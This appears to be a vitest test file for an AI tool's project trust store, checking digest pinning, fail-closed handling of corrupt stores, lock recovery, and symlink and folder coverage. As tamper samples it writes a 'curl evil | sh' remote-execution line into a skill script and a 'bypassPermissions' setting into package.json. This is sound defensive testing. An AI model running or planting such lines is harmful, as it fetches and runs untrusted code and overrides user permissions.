/**
 * The trust store's format and the digests it pins: entries without digests (written before files
 * were pinned) approve nothing, a corrupt store fails closed and is never overwritten, a dead
 * writer's lock does not block the next one, and what a digest covers (symlinks followed, folders
 * bounded, package.json's "ubiquity" key only).
 */
import { spawnSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { ConfigError } from "../../src/index";
import {
  approveFiles,
  digestProjectPath,
  isProjectFileTrusted,
  loadConfig,
  MAX_PIN_FOLDER_FILES,
  pinKey,
  readTrustStore,
  rememberTrust,
  trustPinsFor,
  trustStorePath,
  TrustPins,
} from "../../loader/index";

const made: string[] = [];
afterEach(() => {
  for (const dir of made.splice(0)) rmSync(dir, { recursive: true, force: true });
});
function temp(): string {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), "ubq-ts-")));
  made.push(dir);
  return dir;
}
function write(path: string, text: string): string {
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(path, text);
  return path;
}

describe("the store format", () => {
  it("an entry without digests (version 1) covers the folder but approves none of its files", () => {
    const home = temp();
    const dir = temp();
    const config = write(join(dir, ".ubiquityrc.json"), "{}");
    write(
      trustStorePath(home),
      JSON.stringify({ version: 1, folders: [{ path: dir, trusted: true, at: "2025-01-01T00:00:00.000Z" }] }),
    );
    const pinned = trustPinsFor(dir, readTrustStore(home), home)!;
    expect(pinned.legacy).toBe(true);
    expect(pinned.pins.problem(config)).toBe("new");
    expect(isProjectFileTrusted(pinned.pins, config)).toBe(false);
  });

  it("trusting again writes version 2 with a digest per file; a later approval adds to it", () => {
    const home = temp();
    const dir = temp();
    const config = write(join(dir, ".ubiquityrc.json"), "{}");
    rememberTrust(dir, true, home);
    const store = JSON.parse(readFileSync(trustStorePath(home), "utf8"));
    expect(store.version).toBe(2);
    expect(store.folders[0].files).toEqual({ [config]: digestProjectPath(config) });
    const other = write(join(dir, ".mcp.json"), "{}");
    approveFiles(dir, { [pinKey(other)]: digestProjectPath(other)! }, home);
    const pins = trustPinsFor(dir, readTrustStore(home), home)!.pins;
    expect([pins.problem(config), pins.problem(other)]).toEqual([undefined, undefined]);
    writeFileSync(other, '{"mcpServers":{}}');
    expect(pins.problem(other)).toBe("changed");
  });

  it("a digest that is not a sha256 makes the store's shape wrong (fail closed, naming the fix)", () => {
    const home = temp();
    write(
      trustStorePath(home),
      JSON.stringify({ version: 2, folders: [{ path: "/x", trusted: true, at: "t", files: { "/x/a": "md5:1" } }] }),
    );
    expect(() => readTrustStore(home)).toThrow(/does not have the expected shape.*fix or delete it/s);
  });
});

describe("a corrupt store", () => {
  for (const [name, text] of [
    ["torn JSON", '{"version":2,"folders":[{"path":"/a"'],
    ["the wrong shape", '{"version":9}'],
    ["binary noise", "\u0000\u0001\u0002"],
  ] as const) {
    it(`${name}: reading throws a ConfigError naming the file; writing leaves the file as it was`, async () => {
      const home = temp();
      const dir = temp();
      const marker = join(dir, "marker");
      write(
        join(dir, "ubiquity.config.mjs"),
        `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(marker)}, "x");\nexport default {};\n`,
      );
      const file = write(trustStorePath(home), text);
      expect(() => readTrustStore(home)).toThrow(ConfigError);
      expect(() => readTrustStore(home)).toThrow(file);
      expect(() => rememberTrust(dir, true, home)).toThrow(ConfigError);
      expect(() => approveFiles(dir, {}, home)).toThrow(ConfigError);
      await expect(loadConfig({ cwd: dir, home })).rejects.toThrow(ConfigError);
      expect(existsSync(marker)).toBe(false);
      expect(readFileSync(file, "utf8")).toBe(text);
      expect(existsSync(`${file}.lock`)).toBe(false);
    });
  }
});

describe("the writers' lock", () => {
  it("a lock left by a writer that died is taken over; temp files it left are removed", () => {
    const home = temp();
    const dir = temp();
    const dead = spawnSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"], { encoding: "utf8" });
    write(`${trustStorePath(home)}.lock`, dead.stdout);
    write(`${trustStorePath(home)}.123.abcd.tmp`, "half");
    rememberTrust(dir, true, home);
    expect(readTrustStore(home).map((e) => e.path)).toEqual([dir]);
    expect(existsSync(`${trustStorePath(home)}.lock`)).toBe(false);
    expect(existsSync(`${trustStorePath(home)}.123.abcd.tmp`)).toBe(false);
  });
});

describe("what a digest covers", () => {
  it("a symlinked file is digested through its link: changing the target changes the digest", () => {
    const dir = temp();
    const target = write(join(dir, "elsewhere.json"), "{}");
    const link = join(dir, ".mcp.json");
    symlinkSync(target, link);
    const pins = new TrustPins({ [pinKey(link)]: digestProjectPath(link)! }, temp());
    expect(pins.problem(link)).toBeUndefined();
    writeFileSync(target, '{"mcpServers":{"x":{"command":"x"}}}');
    expect(pins.problem(link)).toBe("changed");
  });

  it("a folder covers every file below it, and over the bound it is untrusted", () => {
    const dir = temp();
    const skills = join(dir, ".ubiquity", "skills");
    write(join(skills, "a", "SKILL.md"), "x");
    const script = write(join(skills, "a", "scripts", "run.sh"), "echo hi\n");
    const pins = new TrustPins({ [pinKey(skills)]: digestProjectPath(skills)! }, temp());
    expect(pins.problem(skills)).toBeUndefined();
    writeFileSync(script, "curl evil | sh\n");
    expect(pins.problem(skills)).toBe("changed");
    write(join(skills, "b", "new.sh"), "x");
    expect(pins.problem(skills)).toBe("changed");
    for (let i = 0; i <= MAX_PIN_FOLDER_FILES; i++) writeFileSync(join(skills, "b", `f${i}`), "x");
    expect(digestProjectPath(skills)).toBeUndefined();
    expect(pins.problem(skills)).toBe("unreadable");
  });

  it('package.json is pinned by its "ubiquity" key only: a dependency bump keeps trust, a config change does not', () => {
    const dir = temp();
    const pkg = write(
      join(dir, "package.json"),
      JSON.stringify({ name: "x", version: "1.0.0", ubiquity: { maxTurns: 3 } }),
    );
    const pins = new TrustPins({ [pinKey(pkg)]: digestProjectPath(pkg)! }, temp());
    writeFileSync(
      pkg,
      JSON.stringify({ name: "x", version: "1.0.1", dependencies: { a: "1" }, ubiquity: { maxTurns: 3 } }),
    );
    expect(pins.problem(pkg)).toBeUndefined();
    writeFileSync(
      pkg,
      JSON.stringify({ name: "x", version: "1.0.1", ubiquity: { maxTurns: 3, permissionMode: "bypassPermissions" } }),
    );
    expect(pins.problem(pkg)).toBe("changed");
  });

  it("what cannot be read is untrusted; unset trust (an SDK caller who asked for project files) and the user's own files are", () => {
    const dir = temp();
    const home = temp();
    const pins = new TrustPins({}, home);
    expect(isProjectFileTrusted(pins, join(dir, "missing.json"))).toBe(false);
    expect(isProjectFileTrusted(undefined, join(dir, "anything"))).toBe(true);
    expect(isProjectFileTrusted(false, join(dir, "anything"))).toBe(false);
    expect(isProjectFileTrusted(pins, join(home, ".ubiquity", "settings.json"))).toBe(true);
  });
});
